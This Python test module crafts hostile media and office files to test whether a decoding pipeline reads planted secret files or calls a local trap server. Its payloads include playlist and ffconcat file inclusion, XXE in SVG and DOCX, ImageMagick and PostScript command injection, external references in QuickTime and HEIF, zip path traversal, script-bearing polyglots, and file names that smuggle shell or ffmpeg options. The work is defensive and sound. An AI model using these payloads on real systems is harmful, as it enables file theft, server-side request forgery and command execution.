"""Files that try to make a decoder read another file or call somebody, and the trap that tells when one succeeds."""

import ctypes
import io
import os
import socket
import struct
import subprocess
import zipfile
from pathlib import Path

from PIL import Image

from containers import FFMPEG, box, element, film, full_box, id3, picture, riff, sound

#: Stands in every planted file, so that what leaks can be found again.
MARK = "planted-9b1f4c"
#: Where the planted files lie as seen from the scratch directory of an attempt, next to the source.
RELATIVE = "../../secrets"

# inotify(7).
_IN_ACCESS = 0x1
_IN_OPEN = 0x20
_EVENT = struct.Struct("iIII")

_RED = ("-f", "lavfi", "-i", "color=red:s=64x64:d=1:r=5", "-metadata", f"title={MARK}")


class Trap:
    """A directory `secrets` of planted media whose opening the kernel reports, and a port whose callers are counted."""

    def __init__(self, parent: Path) -> None:
        """Plant the files below `parent`. The secrets are a film in each container, a picture and a text."""
        self.secrets = parent / "secrets"
        self.secrets.mkdir()
        for name, *options in (
            ("secret.ts", "-f", "mpegts"),
            ("secret.mov", "-c:v", "mpeg4"),
            ("secret.mp4", "-c:v", "mpeg4", "-movflags", "+frag_keyframe+empty_moov+default_base_moof"),
        ):
            subprocess.run([*FFMPEG, *_RED, *options, str(self.secrets / name)], check=True)
        Image.new("RGB", (64, 64), "red").save(self.secrets / "secret.png")
        (self.secrets / "secret.txt").write_text(MARK)
        self._server = socket.create_server(("127.0.0.1", 0))
        self._server.setblocking(False)  # noqa: FBT003
        self.url = f"http://127.0.0.1:{self._server.getsockname()[1]}"
        self._libc = ctypes.CDLL(None, use_errno=True)
        self._watch = self._libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
        if self._libc.inotify_add_watch(self._watch, os.fsencode(self.secrets), _IN_OPEN | _IN_ACCESS) < 0:
            raise OSError(ctypes.get_errno(), "inotify_add_watch")

    def path(self, name: str) -> str:
        return str(self.secrets / name)

    def sprung(self) -> list[str]:
        """Name the planted files that were opened since the last call, and "a connection" if there was one."""
        found = {name for name in self._events() if name}
        try:
            connection, _ = self._server.accept()
        except BlockingIOError:
            return sorted(found)
        connection.close()
        return [*sorted(found), "a connection"]

    def close(self) -> None:
        self._server.close()
        os.close(self._watch)

    def _events(self) -> list[str]:
        names: list[str] = []
        while True:
            try:
                events = os.read(self._watch, 65_536)
            except BlockingIOError:
                return names
            while events:
                *_, length = _EVENT.unpack_from(events)
                names.append(events[_EVENT.size : _EVENT.size + length].rstrip(b"\0").decode())
                events = events[_EVENT.size + length :]


# --- Playlists and scripts ----------------------------------------------------------------------------------------


def playlist(uri: str, *lines: str) -> bytes:
    """Return an HLS playlist of one segment."""
    return "\n".join(["#EXTM3U", "#EXT-X-TARGETDURATION:2", *lines, "#EXTINF:2,", uri, "#EXT-X-ENDLIST", ""]).encode()


def concat(uri: str) -> bytes:
    return f"ffconcat version 1.0\nfile {uri}\n".encode()


def dash(trap: Trap) -> bytes:
    uri = f"file://{trap.path('secret.mp4')}"
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" minBufferTime="PT1S"'
        ' mediaPresentationDuration="PT1S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period>'
        f'<AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>{uri}</BaseURL>'
        "</Representation></AdaptationSet></Period></MPD>"
    ).encode()


def session(trap: Trap) -> bytes:
    port = trap.url.rpartition(":")[2]
    return (
        "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
        f"m=video {port} TCP/RTP/AVP 96\na=rtpmap:96 H264/90000\na=control:rtsp://127.0.0.1:{port}/x\n"
    ).encode()


def vector(trap: Trap) -> bytes:
    """Return an SVG that includes files by each of the ways that XML and SVG have."""
    file, url = f"file://{trap.path('secret.png')}", f"{trap.url}/x.png"
    return (
        f'<?xml version="1.0"?><?xml-stylesheet href="{url}"?>'
        f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file://{trap.path("secret.txt")}"><!ENTITY % y SYSTEM "{url}"> %y;]>'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">'
        f'<image xlink:href="{file}" width="64" height="64"/><image xlink:href="{url}" width="9" height="9"/>'
        f"<style>@import url({url})</style><text>&x;</text></svg>"
    ).encode()


def postscript(trap: Trap) -> bytes:
    return (
        "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 64 64\n"
        f"({trap.path('secret.txt')}) (r) file 99 string readstring pop show\n"
        f"(%pipe%cat {trap.path('secret.txt')}) run\n"
    ).encode()


def magick(trap: Trap) -> bytes:
    """Return drawing commands of ImageMagick (MVG); CVE-2016-3714 and its like."""
    return (
        "push graphic-context\nviewbox 0 0 64 64\n"
        f"image over 0,0 0,0 '{trap.path('secret.png')}'\n"
        f"fill 'url({trap.url}/x.png\"|cat \"{trap.path('secret.txt')})'\n"
        "pop graphic-context\n"
    ).encode()


def magick_script(trap: Trap) -> bytes:
    return f'<?xml version="1.0"?><image><read filename="{trap.path("secret.png")}"/></image>'.encode()


def redirector(trap: Trap) -> bytes:
    return f"[Reference]\r\nRef1={trap.url}/x.mp4\r\nRef2=file://{trap.path('secret.mp4')}\r\n".encode()


# --- Containers that may name other files -------------------------------------------------------------------------


def subtitled(trap: Trap) -> bytes:
    """Return an AVI whose subtitles (GAB2) are a playlist: CVE-2017-9993."""
    inner = playlist(f"file://{trap.path('secret.ts')}")
    name = "x".encode("utf-16-le") + b"\0\0"
    subtitle = b"GAB2\0" + struct.pack("<HI", 2, len(name)) + name + struct.pack("<HI", 4, len(inner)) + inner
    header = struct.pack("<14I", 100_000, 0, 0, 0x10, 1, 0, 1, 1 << 16, 64, 64, 0, 0, 0, 0)
    stream = struct.pack("<4s4sIIIIIIIIII4H", b"txts", b"\0" * 4, *[0] * 5, 1, 0, 1, 0, 0, 0, 0, 0, 0)
    streams = b"LIST" + struct.pack("<I", 4 + 8 + len(stream) + 8) + b"strl"
    streams += b"strh" + struct.pack("<I", len(stream)) + stream + b"strf" + struct.pack("<I", 0)
    head = b"hdrlavih" + struct.pack("<I", len(header)) + header + streams
    return riff(b"AVI ", (b"LIST", head), (b"LIST", b"movi00tx" + struct.pack("<I", len(subtitle)) + subtitle))


def referring(reference: bytes) -> bytes:
    """Return a film whose media data lie in another file, by a data reference of QuickTime."""
    content = film("-an", "-c:v", "mpeg4", suffix="mov")
    own = full_box(b"url ", flags=1)
    at = content.index(own)
    longer = len(reference) - len(own)
    out = bytearray(content[:at] + reference + content[at + len(own) :])
    # Every box around it grows along.
    for kind in (b"dref", b"dinf", b"minf", b"mdia", b"trak", b"moov"):
        start = content.rindex(kind, 0, at) - 4
        (size,) = struct.unpack_from(">I", content, start)
        struct.pack_into(">I", out, start, size + longer)
    return bytes(out)


def alias(path: str, *, up: int = 0, down: int = 0) -> bytes:
    """Return an alias of Mac OS to an absolute path, as ffmpeg's mov.c reads it.

    Where `up` is not 0, the file is looked for in the last `down` parts of the path, `up` - 1 directories above the
    film.
    """
    text = path.encode() + b"\0" * (len(path) % 2)
    head = b"\0" * 10 + b"\0" * 28 + b"\0" * 12 + b"\0" * 64 + b"\0" * 16 + struct.pack(">HH", up, down) + b"\0" * 16
    return full_box(b"alis", head, struct.pack(">HH", 2, len(path)), text, struct.pack(">HH", 0xFFFF, 0))


def reference_movie(trap: Trap) -> bytes:
    """Return a QuickTime movie that only says where the movie is."""
    uri = f"file://{trap.path('secret.mov')}".encode() + b"\0"
    described = full_box(b"rdrf", b"url ", struct.pack(">I", len(uri)), uri)
    return box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"moov", box(b"rmra", box(b"rmda", described)))


def linked(trap: Trap) -> bytes:
    """Return a Matroska film that continues in other files, with one of them and a playlist attached."""
    content = film(suffix="mkv")
    names = [
        element(0x3C83AB, f"{RELATIVE}/secret.ts".encode()),  # PrevFilename
        element(0x3E83BB, trap.path("secret.ts").encode()),  # NextFilename
        element(0x3CB923, b"\1" * 16),  # PrevUID
        element(0x3EB923, b"\2" * 16),  # NextUID
    ]
    attached = element(
        0x61A7,
        element(0x466E, f"{RELATIVE}/secret.txt".encode()),
        element(0x4660, b"application/vnd.apple.mpegurl"),
        element(0x465C, playlist(trap.path("secret.ts"))),
        element(0x46AE, b"\x07"),
    )
    # A segment of unknown size, so that what is put into it needs no counting.
    at = content.index(b"\x18\x53\x80\x67")
    return (
        content[: at + 4]
        + b"\x01"
        + b"\xff" * 7
        + element(0x1549A966, element(0x2AD7B1, b"\x0f\x42\x40"), *names)
        + element(0x1941A469, attached)
        + content[at + 12 :]
    )


def pictures_elsewhere(brand: bytes, reference: bytes) -> bytes:
    """Return a HEIF picture whose only item lies behind a data reference, with an extent of nearly 2^64 bytes."""
    item = struct.pack(">HHH", 1, 0, 1) + struct.pack(">H", 1) + struct.pack(">QQ", 0, 2**64 - 16)
    meta = full_box(
        b"meta",
        full_box(b"hdlr", b"\0" * 4 + b"pict" + b"\0" * 13),
        box(b"dinf", full_box(b"dref", struct.pack(">I", 1), reference)),
        full_box(b"pitm", struct.pack(">H", 1)),
        full_box(b"iloc", b"\x88\x00" + struct.pack(">H", 1) + item, version=1),
        full_box(b"iinf", struct.pack(">H", 1), full_box(b"infe", struct.pack(">HH4sB", 1, 0, b"av01", 0), version=2)),
        box(b"iprp", box(b"ipco", full_box(b"ispe", struct.pack(">II", 64, 64)))),
    )
    return box(b"ftyp", brand + b"\0\0\0\0mif1" + brand) + meta


def main_part(name: str) -> str:
    """Return what [Content_Types].xml says of the main part of an office document."""
    return f'<Override PartName="/x" ContentType="application/vnd.openxmlformats-officedocument.{name}.main+xml"/>'


def document(trap: Trap) -> bytes:
    """Return a DOCX whose parts refer to other files and servers, in XML's ways and in Word's."""
    target = '<Relationship Id="r{0}" Type="http://x/{1}" Target="{2}" TargetMode="External"/>'
    uris = [f"file://{trap.path('secret.txt')}", f"{trap.url}/template.dotm", "\\\\127.0.0.1\\share\\x"]
    relations = "".join(target.format(at, "attachedTemplate", uri) for at, uri in enumerate(uris))
    entity = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://{trap.path("secret.txt")}">]>'
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", f"{entity}<Types>{main_part('wordprocessingml.document')}&e;</Types>")
        archive.writestr("_rels/.rels", f"{entity}<Relationships>{relations}&e;</Relationships>")
        archive.writestr("word/document.xml", f"{entity}<document>&e;</document>")
        archive.writestr("../../secrets/secret.txt", "overwritten")
    return buffer.getvalue()


# --- Files that are two things ------------------------------------------------------------------------------------

#: What a browser or an archiver would find in a polyglot; it may stand in no rendition that is shown.
PAYLOAD = b"<script>alert('payload')</script>"


def polyglots() -> dict[str, tuple[str, bytes]]:
    """Return pictures and sound that are something else as well: by name, the file's name and content."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("index.html", PAYLOAD)
    comment = b"\xff\xfe" + struct.pack(">H", 2 + len(PAYLOAD)) + PAYLOAD
    jpeg, png, gif = picture("JPEG"), picture("PNG"), picture("GIF")
    text = struct.pack(">I4s", len(PAYLOAD) + 2, b"tEXt") + b"a\0" + PAYLOAD + b"\0\0\0\0"
    return {
        "JPEG and zip": ("a.jpg", jpeg + buffer.getvalue()),
        "JPEG and PDF": ("a.jpg", jpeg[:2] + comment + jpeg[2:] + b"%PDF-1.4\n" + PAYLOAD),
        "GIF and script": ("a.gif", gif[:-1] + b"\x21\xfe" + bytes([len(PAYLOAD)]) + PAYLOAD + b"\0;"),
        "PNG and HTML": ("a.png", png + PAYLOAD),
        "PNG with a bad checksum": ("a.png", png[:33] + text + png[33:]),
        "WAV and HTML": ("a.wav", sound() + b"LIST" + struct.pack("<I", len(PAYLOAD)) + PAYLOAD + b"\0"),
        "MP4 and HTML": ("a.mp4", film() + box(b"free", PAYLOAD)),
    }


def attacks(trap: Trap) -> dict[str, tuple[str, bytes]]:
    """Return everything here that tries to reach another file: by name, the file's name and content."""
    absolute, away = f"file://{trap.path('secret.ts')}", f"{trap.url}/x.ts"
    relative = playlist(f"{RELATIVE}/secret.ts")
    to_url = full_box(b"url ", absolute.encode() + b"\0")
    to_server = full_box(b"url ", trap.url.encode() + b"/x\0")
    linked_cover = id3((b"APIC", b"\0-->\0\x03\0" + away.encode()), (b"WXXX", b"\0\0" + away.encode()))
    mp3 = sound(suffix="mp3")
    return {
        "playlist": ("a.mp4", playlist(absolute)),
        "playlist, relative": ("a.mp4", relative),
        "playlist, relative, as sound": ("a.mp3", relative),
        "playlist, relative, as picture": ("a.jpg", relative),
        "playlist, relative, as text": ("a.txt", relative),
        "playlist of a server": ("a.mp4", playlist(away)),
        "playlist with a key": ("a.mp4", playlist("x.ts", f'#EXT-X-KEY:METHOD=AES-128,URI="{absolute}"')),
        "playlist with a map": ("a.mp4", playlist("x.ts", f'#EXT-X-MAP:URI="{trap.path("secret.mp4")}"')),
        "playlist, concat:": ("a.mp4", playlist(f"concat:{trap.path('secret.ts')}|{trap.path('secret.ts')}")),
        "playlist, subfile:": ("a.mp4", playlist(f"subfile,,start,0,end,9999,,:{trap.path('secret.ts')}")),
        "playlist behind ftyp": ("a.mp4", box(b"ftyp", b"isom\0\0\0\0isom") + relative),
        "playlist behind a tag": ("a.mp3", id3((b"TIT2", b"\0x")) + relative),
        "playlist in a tag": ("a.mp3", id3((b"APIC", b"\0audio/x-mpegurl\0\x03\0" + relative)) + mp3),
        "playlist behind ADTS": ("a.aac", b"\xff\xf1" + relative),
        "playlist behind Ogg": ("a.ogg", b"OggS" + relative),
        "playlist behind EBML": ("a.mkv", b"\x1aE\xdf\xa3" + relative),
        "playlist behind RIFF": ("a.avi", b"RIFF\xff\0\0\0AVI " + relative),
        "playlist behind FLAC": ("a.flac", b"fLaC" + relative),
        "playlist behind AMR": ("a.amr", b"#!AMR\n" + relative),
        "playlist behind a transport stream": ("a.ts", (b"\x47\x1f\xff\x10" + b"\xff" * 184) * 3 + relative),
        "ffconcat": ("a.mp4", concat(f"{RELATIVE}/secret.ts")),
        "ffconcat, absolute": ("a.mp4", concat(trap.path("secret.ts"))),
        "ffconcat of a server": ("a.mp4", concat(away)),
        "DASH": ("a.mp4", dash(trap)),
        "SDP": ("a.mp4", session(trap)),
        "redirector": ("a.mov", redirector(trap)),
        "SVG": ("a.png", vector(trap)),
        "SVG as text": ("a.txt", vector(trap)),
        "EPS": ("a.jpg", postscript(trap)),
        "MVG": ("a.jpg", magick(trap)),
        "MSL": ("a.png", magick_script(trap)),
        "TIFF": ("a.jpg", picture("TIFF")),
        "ICO": ("a.bmp", picture("ICO")),
        "PCX": ("a.png", picture("PCX")),
        "PSD": ("a.png", b"8BPS\0\1" + b"\0" * 6 + struct.pack(">HIIHH", 3, 1, 1, 8, 3) + b"\0" * 99),
        "WMF": ("a.bmp", b"\xd7\xcd\xc6\x9a" + b"\0" * 90),
        "EMF": ("a.bmp", struct.pack("<II", 1, 88) + b"\0" * 32 + b" EMF" + b"\0" * 60),
        "AIFF": ("a.wav", sound(suffix="aiff")),
        "AVI with a playlist": ("a.avi", subtitled(trap)),
        "MOV with a URL": ("a.mov", referring(to_url)),
        "MOV with the URL of a server": ("a.mov", referring(to_server)),
        "MOV with an alias": ("a.mov", referring(alias(trap.path("secret.mov")))),
        "MOV with a relative alias": ("a.mov", referring(alias(trap.path("secret.mov"), up=3, down=2))),
        "reference movie": ("a.mov", reference_movie(trap)),
        "MKV with links": ("a.mkv", linked(trap)),
        "MP3 with a linked cover": ("a.mp3", linked_cover + mp3),
        "WAV with a linked cover": ("a.wav", sound() + b"id3 " + struct.pack("<I", len(linked_cover)) + linked_cover),
        "HEIC elsewhere": ("a.heic", pictures_elsewhere(b"heic", to_url)),
        "AVIF elsewhere": ("a.avif", pictures_elsewhere(b"avif", to_url)),
        "AVIF on a server": ("a.avif", pictures_elsewhere(b"avif", to_server)),
        "DOCX with references": ("a.docx", document(trap)),
    }


def names(trap: Trap) -> list[str]:
    """Return file names that ffmpeg would take for something else."""
    stems = (
        "%03d", "-i", "-y", "pipe:0", f"concat:{trap.path('secret.ts')}|x", f"{trap.url}/x", "../../secrets/secret",
        f"subfile,,start,0,end,0,,:{trap.path('secret')}", f"file:{trap.path('secret')}", "$(touch x)", "@", "a\nb",
    )  # fmt: skip
    return [f"{stem}.mp4" for stem in stems]
